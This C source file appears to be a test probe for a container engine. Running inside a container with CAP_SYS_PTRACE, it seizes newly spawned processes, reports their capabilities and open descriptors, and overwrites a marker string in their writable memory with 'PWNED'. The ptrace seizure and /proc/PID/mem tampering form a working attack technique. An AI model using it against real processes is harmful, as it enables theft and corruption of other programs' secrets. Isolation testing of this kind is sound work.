// What a container with CAP_SYS_PTRACE tries against processes that are born in its pid namespace: seize each new one at
// its first instruction, before it runs its own program, and look for what it has of the engine.
//
//   ptrace_attack SECONDS REVERSED-MARKER
//
// Prints one line for each process that it caught on its way: its capabilities, how many descriptors beyond standard input and
// output it has, and whether the marker lies in its memory, where it is overwritten.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <dirent.h>
#include <time.h>
#include <unistd.h>

static char marker[256];

static int overwrite(int memory, unsigned long from, unsigned long to) {
    static char chunk[1 << 20];
    size_t length = strlen(marker);
    int found = 0;
    for (unsigned long at = from; at < to; at += sizeof chunk - length) {
        size_t want = to - at < sizeof chunk ? to - at : sizeof chunk;
        ssize_t got = pread(memory, chunk, want, at);
        if (got < (ssize_t)length) continue;
        char *hit = chunk;
        while ((hit = memmem(hit, chunk + got - hit, marker, length))) {
            found += pwrite(memory, "PWNED", 5, at + (hit - chunk)) == 5;
            hit += length;
        }
    }
    return found;
}

static int search(pid_t pid) {
    char path[64], line[512];
    int found = 0;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDWR);
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        char access[5];
        if (sscanf(line, "%lx-%lx %4s", &from, &to, access) == 3 && access[1] == 'w' && to - from < 1UL << 28)
            found += overwrite(memory, from, to);
    }
    if (maps) fclose(maps);
    if (memory >= 0) close(memory);
    return found;
}

static int descriptors(pid_t pid) {
    char path[64];
    int count = 0;
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *folder = opendir(path);
    for (struct dirent *entry; folder && (entry = readdir(folder));) count += atoi(entry->d_name) > 2;
    if (folder) closedir(folder);
    return count;
}

static unsigned long permitted(pid_t pid) {
    char path[64], line[256];
    unsigned long set = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *status = fopen(path, "r");
    while (status && fgets(line, sizeof line, status)) sscanf(line, "CapPrm: %lx", &set);
    if (status) fclose(status);
    return set;
}

// The programs that the test executes are called busybox.
static int on_its_way(pid_t pid) {
    char path[64], program[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, program, sizeof program - 1);
    if (length < 0) return 0;
    program[length] = 0;
    return !strstr(program, "busybox");
}

int main(int count, char **arguments) {
    if (count != 3) return 2;
    size_t length = strlen(arguments[2]);
    for (size_t i = 0; i < length && i < sizeof marker - 1; i++) marker[i] = arguments[2][length - 1 - i];
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("ready");
    time_t end = time(NULL) + atoi(arguments[1]);
    pid_t last = getpid();
    for (unsigned long turn = 0; turn % 1024 || time(NULL) < end; turn++) {
        for (pid_t pid = last + 1; pid <= last + 3; pid++) {
            if (ptrace(PTRACE_SEIZE, pid, 0, 0)) continue;
            last = pid;
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            int status;
            waitpid(pid, &status, __WALL);
            if (WIFSTOPPED(status) && on_its_way(pid))
                printf("caught capabilities=%lx descriptors=%d found=%d\n", permitted(pid), descriptors(pid), search(pid));
            ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    }
    puts("over");
    return 0;
}
